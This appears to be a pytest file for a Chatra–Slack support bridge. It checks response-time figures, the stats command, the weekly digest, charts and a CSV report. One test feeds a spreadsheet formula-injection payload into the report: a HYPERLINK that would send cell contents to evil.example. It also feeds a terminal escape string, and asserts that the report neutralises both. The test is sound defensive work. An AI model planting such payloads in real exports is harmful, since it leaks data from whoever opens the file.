"""How fast the team answers: each chat's figures, /chatra stats, the weekly digest, the chart
and `chatra-bridge report`, checked against a scripted morning worked out by hand."""

import asyncio
import csv
import io

import aiohttp
import pytest

from bot.cli import main
from bot.core.stats.summary import summarise
from bot.core.stats.texts import summary_lines
from handlers.app_keys import CORE, LEADERSHIP
from storage import ChatFigures
from tests.conftest import CHANNEL, FakeClock
from tests.helpers import (
    RunningApp,
    agent_says,
    all_settled,
    button_on,
    chat_event,
    event_id,
    leader_then_other,
    reply,
    run_sql,
    start_chat,
    visitor_says,
    wait_for,
)

FRIDAY_8AM = 1_800_000_000.0  # Fri 15 Jan 2027 08:00 UTC
MONDAY_9_05 = FRIDAY_8AM + 3 * 86400 + 65 * 60  # Mon 18 Jan 2027 09:05 UTC


@pytest.fixture
def clock() -> FakeClock:
    return FakeClock()  # FRIDAY_8AM


@pytest.fixture
async def app(settings, clock):
    hours = {"business_hours": "mon-fri 09:00-18:00", "public_url": "https://bridge.test"}
    running = await RunningApp(settings.model_copy(update=hours), clock).start()
    yield running
    await running.close()


async def a_morning(app, slack, membrane, clock) -> dict[str, str]:
    """08:00 Ann writes, Sam answers from Slack at 08:05; 08:10 Bob writes, Ana answers from
    Chatra's dashboard at 08:30; 08:40 Cy writes and waits; 09:10 Sam marks Ann's chat done.
    Each chat's card ts, by name."""
    cards = {}
    for name, wait in (("Ann", 0), ("Bob", 10), ("Cy", 40)):
        clock.now = FRIDAY_8AM + wait * 60
        said = [visitor_says(f"{name}-1", "hello?")]
        cards[name] = (await start_chat(app, slack, f"client-{name}", messages=said, name=name)).ts
        if name == "Ann":
            clock.now = FRIDAY_8AM + 5 * 60
            await app.slack_event(reply(cards["Ann"], "1800000300.000100", "Hi Ann"), event_id())
            await wait_for(lambda: membrane.visible_messages("client-Ann"))
            await app.settled()
        if name == "Bob":
            clock.now = FRIDAY_8AM + 30 * 60
            answer = [*said, agent_says("Bob-2", "Hi Bob")]
            await app.webhook(chat_event("chatFragment", "client-Bob", answer, name=name))
            await app.settled()
    clock.now = FRIDAY_8AM + 70 * 60
    card = next(card for card in slack.parents(CHANNEL) if card.ts == cards["Ann"])
    await app.click(button_on(card, "Done"), message_ts=card.ts, user="U0AGENT01")
    await wait_for(lambda: "Done by" in str(card.blocks))
    return cards


async def test_each_chats_figures_are_what_was_worked_out_by_hand(app, slack, membrane, clock):
    await a_morning(app, slack, membrane, clock)
    rows = run_sql(
        app.settings,
        "SELECT client_id, first_response_at - started_at, first_responder, longest_wait,"
        " visitor_messages, agent_messages, ended_how, ended_at - started_at"
        " FROM chat_figures ORDER BY opened_at",
    )
    assert rows == [
        ("client-Ann", 300.0, "U0AGENT01", 300.0, 1, 1, "done", 4200.0),
        ("client-Bob", 1200.0, "Ana", 1200.0, 1, 1, None, None),
        ("client-Cy", None, None, None, 1, 0, None, None),
    ]


async def test_stats_show_first_responses_by_agent_and_the_slowest_only_to_you(
    app, slack, membrane, clock
):
    cards = await a_morning(app, slack, membrane, clock)
    clock.now = FRIDAY_8AM + 80 * 60  # 09:20: Cy has waited 40 min
    await app.slash_command("stats today")
    [answer] = await wait_for(lambda: slack.responses)
    text = answer["text"]
    assert answer["response_type"] == "ephemeral"
    assert "Chats: *3* · answered: 2 · never answered: 1" in text
    assert "First response: p50 5m · p90 20m · max 20m (all hours)" in text
    assert "In business hours: p50 0s · p90 0s · max 0s" in text  # all before 09:00
    assert "Time to done: p50 1h 10m" in text
    assert "By agent (first answers): Ana 1 (p50 20m) · Sam 1 (p50 5m)" in text
    slowest = text.split("Slowest: ")[1]
    assert slowest.index("40m (not answered yet)") < slowest.index("20m") < slowest.index("5m")
    assert f"p{cards['Cy'].replace('.', '')}" in slowest  # linked to its thread

    await app.slash_command("stats 30d share")
    shared = await wait_for(lambda: slack.responses[1:])
    assert shared[0]["response_type"] == "in_channel" and "last 30 days" in shared[0]["text"]
    await app.slash_command("stats yesterday")
    refused = await wait_for(lambda: slack.responses[2:])
    assert refused[0]["text"] == "Usage: `/chatra stats [today | 7d | 30d] [share]`"


async def test_app_home_shows_the_last_14_days_as_a_chart_served_under_public_url(
    app, slack, membrane, clock
):
    await a_morning(app, slack, membrane, clock)
    event = {"type": "app_home_opened", "user": "U0AGENT01", "channel": "D0HOME01", "tab": "home"}
    await app.slack_event(event, "EvHOME001")
    await wait_for(lambda: "U0AGENT01" in slack.home)
    [image] = [b for b in slack.home["U0AGENT01"]["blocks"] if b["type"] == "image"]
    assert image["image_url"].startswith("https://bridge.test/files/")
    assert image["alt_text"].endswith("15 Jan: 3")
    path = image["image_url"].removeprefix("https://bridge.test")
    async with aiohttp.ClientSession() as http, http.get(app.url + path) as served:
        assert served.status == 200 and (await served.read()).startswith(b"\x89PNG")


async def test_without_public_url_the_chart_is_bars_of_text(settings, slack, membrane, clock):
    app = await RunningApp(settings, clock).start()
    try:
        await a_morning(app, slack, membrane, clock)
        event = {"type": "app_home_opened", "user": "U0AGENT01", "tab": "home"}
        await app.slack_event(event, "EvHOME002")
        await wait_for(lambda: "U0AGENT01" in slack.home)
        home = str(slack.home["U0AGENT01"]["blocks"])
        assert "`15 Jan` ████████████ 3 · p50 5m" in home and "`14 Jan` · 0" in home
    finally:
        await app.close()


async def test_the_weekly_digest_is_posted_once_with_two_bridges(
    settings_on_postgres, slack, membrane, clock
):
    leader, other = await leader_then_other(settings_on_postgres, clock)
    try:
        await a_morning(leader, slack, membrane, clock)
        await all_settled(leader, other)
        clock.now = MONDAY_9_05  # Monday 09:00 has passed: the digest of the week before
        [digest] = await wait_for(lambda: digests(slack))
        assert "Chats: *3* (+3) · answered: 2 (+2) · never answered: 1 (+1)" in digest.text
        assert "Time to done: p50 1h 10m (was —)" in digest.text  # the week before had none
        assert "Ratings: 0 · low: 0" in digest.text
        await leader.close()  # the other leads now, and sees the digest was posted
        await wait_for(lambda: other.app[LEADERSHIP].leading, within=3)
        await asyncio.sleep(0.5)
        assert len(digests(slack)) == 1
    finally:
        await other.close()


def digests(slack) -> list:
    return [m for m in slack.parents(CHANNEL) if "Support this week" in m.text]


async def test_a_new_install_never_opens_with_the_digest_of_a_week_it_never_saw(
    settings, slack, membrane, clock
):
    clock.now = MONDAY_9_05  # the digest was due five minutes before this bridge first started
    app = await RunningApp(settings, clock).start()
    try:
        await app.app[CORE].door.stats.digest()  # the leader's job, as its round runs it
        assert digests(slack) == []
    finally:
        await app.close()


async def test_a_bridge_restarted_after_the_digest_was_due_still_posts_it(
    settings, slack, membrane, clock
):
    often = settings.model_copy(update={"escalation_check_seconds": 0.1})  # the leader's rounds
    app = await RunningApp(often, clock).start()  # served since Friday 08:00
    await a_morning(app, slack, membrane, clock)
    await app.close()
    clock.now = MONDAY_9_05  # restarted (a deploy, say) after Monday 09:00
    app = await RunningApp(often, clock).start()
    try:
        [digest] = await wait_for(lambda: digests(slack))
        assert "Chats: *3* (+3)" in digest.text
    finally:
        await app.close()


async def test_report_prints_each_chats_figures_for_a_spreadsheet(
    app, slack, membrane, clock, capsys, monkeypatch
):
    await a_morning(app, slack, membrane, clock)
    await app.close()
    monkeypatch.setattr("time.time", lambda: FRIDAY_8AM + 3600 * 2)
    url = app.settings.database_url
    where = url.get_secret_value() if url else app.settings.database_path
    command = ["report", "--since", "1d", "--csv", "--database", where]
    assert await asyncio.to_thread(main, command) == 0  # a command line: no event loop
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [(r["client_id"], r["first_response_s"], r["ended"]) for r in rows] == [
        ("client-Ann", "300", "done"),
        ("client-Bob", "1200", ""),
        ("client-Cy", "", ""),
    ]
    assert rows[0]["first_responder"] == "U0AGENT01" and rows[0]["to_end_s"] == "4200"


async def test_report_writes_what_a_visitor_chose_as_text_never_a_formula_or_an_escape(
    settings, slack, membrane, clock, capsys, monkeypatch
):
    app = await RunningApp(settings, clock).start()
    evil = '=HYPERLINK("https://evil.example/?leak="&A2&B2,"Open")'
    try:
        for client_id in (evil, "\x1b]0;owned\x07@agent", "+1 555", "-2", "\tfoo"):
            hello = [visitor_says("", "hi")]
            await app.webhook(chat_event("chatStarted", client_id, hello, name="Eve"))
        await app.settled()
    finally:
        await app.close()
    monkeypatch.setattr("time.time", lambda: FRIDAY_8AM + 3600)
    url = app.settings.database_url
    where = url.get_secret_value() if url else app.settings.database_path
    for form in (["--csv"], []):
        assert await asyncio.to_thread(main, ["report", "--database", where, *form]) == 0
        out = capsys.readouterr().out
        assert "\x1b" not in out and "\x07" not in out
        if form:
            cells = [row["client_id"] for row in csv.DictReader(io.StringIO(out))]
            assert sorted(cells) == sorted(["'" + evil, "]0;owned@agent", "'+1 555", "'-2", "'foo"])
        else:
            assert "'=HYPERLINK(" in out


def test_the_digest_compares_each_figure_with_the_week_before():
    def chat(n: int, answered_after: float | None) -> ChatFigures:
        at = FRIDAY_8AM + n * 60
        answer = at + answered_after if answered_after is not None else None
        return ChatFigures(n, f"c{n}", CHANNEL, f"{at:.6f}", None, at, at, answer, "U0AGENT01",
                           None, None, 1, 1 if answer else 0, None, None)  # fmt: skip

    week = summarise([chat(1, 60), chat(2, 600), chat(3, None)], None, FRIDAY_8AM + 3600)
    before = summarise([chat(4, 120)], None, FRIDAY_8AM)
    lines = summary_lines(week, {}, lambda c, ts: f"https://x/{ts}", FRIDAY_8AM, "UTC", before)
    assert lines[0] == "Chats: *3* (+2) · answered: 2 (+1) · never answered: 1 (+1)"
    assert lines[1] == (
        "First response: p50 1m · p90 10m · max 10m (all hours); the week before p50 2m · p90 2m"
    )
